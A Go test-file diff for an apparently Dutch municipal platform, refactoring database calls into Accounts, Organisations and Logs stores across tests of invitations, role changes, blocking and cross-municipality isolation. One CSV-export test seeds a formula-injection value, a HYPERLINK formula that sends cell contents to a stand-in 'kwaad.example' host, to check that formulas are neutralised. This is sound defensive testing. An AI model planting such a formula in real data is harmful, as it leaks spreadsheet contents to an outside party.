@@ -20,7 +20,7 @@ import (
 // lastLink returns the newest link to path in the outbox.
 func (p *platform) lastLink(t *testing.T, path string) string {
 	t.Helper()
-	mails, err := p.db.ListMail(context.Background(), 10)
+	mails, err := p.db.Accounts.ListMail(context.Background(), 10)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -37,7 +37,7 @@ func TestInviteAcceptAndFirstLogin(t *testing.T) {
 	p := newPlatform(t, true)
 	ctx := context.Background()
 	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
-	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
+	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
 
 	// Every mistake at once, and nothing saved.
 	bad := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"geen-adres"}, "rol": {"school"}})
@@ -46,7 +46,7 @@ func TestInviteAcceptAndFirstLogin(t *testing.T) {
 			t.Errorf("bad invite: %d, lacks %q", bad.status, want)
 		}
 	}
-	if mails, _ := p.db.ListMail(ctx, 10); len(mails) != 0 {
+	if mails, _ := p.db.Accounts.ListMail(ctx, 10); len(mails) != 0 {
 		t.Fatalf("a refused invitation sent %d mails", len(mails))
 	}
 
@@ -83,13 +83,13 @@ func TestUserAdministration(t *testing.T) {
 	p := newPlatform(t, true)
 	ctx := context.Background()
 	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
-	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")
+	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")
 
 	// Someone with roles in Arnhem and Den Haag: Arnhem's administrator may
 	// take the Arnhem role, but not block the whole account.
 	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
 		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
-	p.db.CreateUser(ctx, both, "")
+	p.db.Accounts.CreateUser(ctx, both, "")
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/blokkeren", admin, url.Values{}); r.status != http.StatusForbidden || !strings.Contains(r.body, "ook voor een andere gemeente") {
 		t.Errorf("blocking a two-municipality user: %d", r.status)
 	}
@@ -101,7 +101,7 @@ func TestUserAdministration(t *testing.T) {
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen", admin, url.Values{"rol": {""}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, "Kies een bestaande rol") {
 		t.Errorf("a role form without a role: %d", r.status)
 	}
-	if u, _ := p.db.FindUserByID(ctx, both.ID); len(u.Memberships) != 2 {
+	if u, _ := p.db.Accounts.FindUserByID(ctx, both.ID); len(u.Memberships) != 2 {
 		t.Errorf("roles after a form without a role: %d", len(u.Memberships))
 	}
 	// Give an Arnhem role, then take the other one away.
@@ -114,7 +114,7 @@ func TestUserAdministration(t *testing.T) {
 		!strings.Contains(r.body, `name="bevestigd" value="ja"`) {
 		t.Errorf("revoking without confirmation: %d", r.status)
 	}
-	if u, _ := p.db.FindUserByID(ctx, both.ID); len(u.Memberships) != 3 {
+	if u, _ := p.db.Accounts.FindUserByID(ctx, both.ID); len(u.Memberships) != 3 {
 		t.Errorf("an unconfirmed revocation took a role: %d left", len(u.Memberships))
 	}
 	if r := p.do(t, "POST", revoke, admin, url.Values{"bevestigd": {"ja"}}); r.location != "/beheer/arnhem/gebruikers?melding=rol-ingetrokken" {
@@ -127,7 +127,7 @@ func TestUserAdministration(t *testing.T) {
 
 	// Blocking ends the user's sessions.
 	partner := p.login(t, "partner@arnhem.demo.example", testPassword).cookie.Value
-	pu, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
+	pu, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+pu.ID+"/blokkeren", admin, url.Values{}); r.location != "/beheer/arnhem/gebruikers?melding=geblokkeerd" {
 		t.Fatalf("block: %d", r.status)
 	}
@@ -135,7 +135,7 @@ func TestUserAdministration(t *testing.T) {
 		t.Error("blocked user still logged in")
 	}
 	// The last administrator keeps the role.
-	me, _, _ := p.db.FindCredentials(ctx, "beheerder@arnhem.demo.example")
+	me, _, _ := p.db.Accounts.FindCredentials(ctx, "beheerder@arnhem.demo.example")
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+me.ID+"/rollen/"+me.Memberships[0].ID+"/intrekken", admin, url.Values{"bevestigd": {"ja"}}); r.status != http.StatusConflict || !strings.Contains(r.body, "laatste functioneel beheerder") {
 		t.Errorf("removing the last beheerder: %d", r.status)
 	}
@@ -161,8 +161,8 @@ func TestRightsReview(t *testing.T) {
 	p.db.Now = func() time.Time { return storetest.Now().Add(-100 * 24 * time.Hour) }
 	p.login(t, "otsv@arnhem.demo.example", testPassword)
 	p.db.Now = storetest.Now
-	pu, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
-	p.db.SetUserDisabled(vios.NewSystemContext(ctx, "testopzet"), pu.ID, true, p.arnhemID)
+	pu, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
+	p.db.Accounts.SetUserDisabled(vios.NewSystemContext(ctx, "testopzet"), pu.ID, true, p.arnhemID)
 	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
 	r := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht", fg, nil)
 	if r.status != 200 {
@@ -211,7 +211,7 @@ func TestRightsReview(t *testing.T) {
 func TestOutboxOnlyInDemoModeForAdministrators(t *testing.T) {
 	for _, demoMode := range []bool{true, false} {
 		p := newPlatform(t, demoMode)
-		p.db.QueueMail(context.Background(), "partner@arnhem.demo.example", "Test", "Hallo")
+		p.db.Accounts.QueueMail(context.Background(), "partner@arnhem.demo.example", "Test", "Hallo")
 		want := map[bool]int{true: 200, false: 404}[demoMode]
 		email := "beheerder@arnhem.demo.example"
 		r := p.login(t, email, testPassword)
@@ -244,22 +244,22 @@ func TestOutboxShowsNoLinksAndNoOtherMunicipality(t *testing.T) {
 	p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"fg@arnhem.demo.example"}})
 	p.waitForBackground(t)
 	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
-	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
+	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor Nieuw"},
 		"email": {"noor@school.example"}, "rol": {"school"}, "organisatie": {schools[0].ID}}); r.status != http.StatusSeeOther {
 		t.Fatalf("invite: %d", r.status)
 	}
 	// Someone who works in both municipalities: mail to them may be about
 	// either, so neither administrator reads it.
-	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")
+	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")
 	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
 		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
-	if err := p.db.CreateUser(ctx, both, ""); err != nil {
+	if err := p.db.Accounts.CreateUser(ctx, both, ""); err != nil {
 		t.Fatal(err)
 	}
-	p.db.QueueMail(ctx, both.Email, "Over Arnhem", "Casus in Arnhem")
+	p.db.Accounts.QueueMail(ctx, both.Email, "Over Arnhem", "Casus in Arnhem")
 
-	all, _ := p.db.ListOutbox(ctx, 100)
+	all, _ := p.db.Logs.ListOutbox(ctx, 100)
 	var tokens []string
 	for _, m := range all {
 		if link := regexp.MustCompile(`/(?:uitnodiging|wachtwoord-herstellen)/([A-Za-z0-9_-]+)`).FindStringSubmatch(m.Body); link != nil {
@@ -297,7 +297,7 @@ func TestNoAdministrationAcrossMunicipalities(t *testing.T) {
 	p := newPlatform(t, true)
 	ctx := context.Background()
 	dh := p.login(t, "beheerder@den-haag.demo.example", testPassword).cookie.Value
-	target, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
+	target, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
 
 	for _, path := range []string{"/beheer/arnhem/gebruikers", "/beheer/arnhem/gebruikers/uitnodigen", "/beheer/arnhem/rechtenoverzicht", "/beheer/arnhem/rechtenoverzicht.csv"} {
 		r := p.do(t, "GET", path, dh, nil)
@@ -315,7 +315,7 @@ func TestNoAdministrationAcrossMunicipalities(t *testing.T) {
 			t.Errorf("POST via Den Haag %s: %d, want 404", path, r.status)
 		}
 	}
-	after, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
+	after, _, _ := p.db.Accounts.FindCredentials(ctx, "partner@arnhem.demo.example")
 	if after.Disabled || len(after.Memberships) != len(target.Memberships) {
 		t.Errorf("the Arnhem user was changed: disabled %v, %d roles", after.Disabled, len(after.Memberships))
 	}
@@ -333,7 +333,7 @@ func TestEndSessionsOfAUser(t *testing.T) {
 	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
 	first := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
 	second := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
-	u, _, _ := p.db.FindCredentials(ctx, "coordinator@arnhem.demo.example")
+	u, _, _ := p.db.Accounts.FindCredentials(ctx, "coordinator@arnhem.demo.example")
 	if p.do(t, "GET", "/account", first, nil).status != 200 {
 		t.Fatal("not logged in")
 	}
@@ -353,7 +353,7 @@ func TestEndSessionsOfAUser(t *testing.T) {
 	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+u.ID+"/sessies-beeindigen", coord, url.Values{}); r.status != http.StatusForbidden {
 		t.Errorf("coordinator ends sessions: %d", r.status)
 	}
-	audit, _ := p.db.SearchAudit(ctx, vios.LogFilter{MunicipalityID: p.arnhemID, Action: "sessies-beeindigd"})
+	audit, _ := p.db.Logs.SearchAudit(ctx, vios.LogFilter{MunicipalityID: p.arnhemID, Action: "sessies-beeindigd"})
 	if len(audit) != 1 || audit[0].ObjectID != u.ID {
 		t.Errorf("%d audit records of ending sessions", len(audit))
 	}
@@ -366,9 +366,9 @@ func TestRoleNeedsTheRightOrganisation(t *testing.T) {
 	p := newPlatform(t, true)
 	ctx := context.Background()
 	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
-	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")
-	partners, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgPartner})
-	dhSchools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: dh.ID, Kind: vios.OrgSchool})
+	dh, _ := p.db.Organisations.FindMunicipalityBySlug(ctx, "den-haag")
+	partners, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgPartner})
+	dhSchools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: dh.ID, Kind: vios.OrgSchool})
 	for name, org := range map[string]string{"a partner": partners[0].ID, "a Den Haag school": dhSchools[0].ID, "nonsense": "onzin"} {
 		r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"nieuw@school.example"},
 			"rol": {"school"}, "organisatie": {org}})
@@ -381,10 +381,10 @@ func TestRoleNeedsTheRightOrganisation(t *testing.T) {
 			t.Errorf("adding a school role at %s: %d", name, r.status)
 		}
 	}
-	if _, _, err := p.db.FindCredentials(ctx, "nieuw@school.example"); vios.ErrorCode(err) != vios.ENOTFOUND {
+	if _, _, err := p.db.Accounts.FindCredentials(ctx, "nieuw@school.example"); vios.ErrorCode(err) != vios.ENOTFOUND {
 		t.Errorf("a refused invitation created the account: %v", err)
 	}
-	if u, _ := p.db.FindUserByID(ctx, p.school.ID); len(u.Memberships) != 1 {
+	if u, _ := p.db.Accounts.FindUserByID(ctx, p.school.ID); len(u.Memberships) != 1 {
 		t.Errorf("refused roles were added: %d roles", len(u.Memberships))
 	}
 }
@@ -394,11 +394,11 @@ func TestRightsReviewCSVNeutralisesFormulas(t *testing.T) {
 	p := newPlatform(t, true)
 	ctx := context.Background()
 	hash, _ := auth.NewHasher(1).Hash(ctx, testPassword)
-	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
+	schools, _ := p.db.Organisations.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
 	for _, name := range []string{`=HYPERLINK("https://kwaad.example/?"&A1,"Klik")`, "+31 6 1234", "-2+3", "@SUM(A1)"} {
 		u := &vios.User{Email: fmt.Sprintf("formule%d@school.example", len(name)), Name: name,
 			Memberships: []vios.Membership{{MunicipalityID: p.arnhemID, OrganisationID: schools[0].ID, Role: vios.RoleSchool}}}
-		if err := p.db.CreateUser(ctx, u, hash); err != nil {
+		if err := p.db.Accounts.CreateUser(ctx, u, hash); err != nil {
 			t.Fatal(err)
 		}
 	}
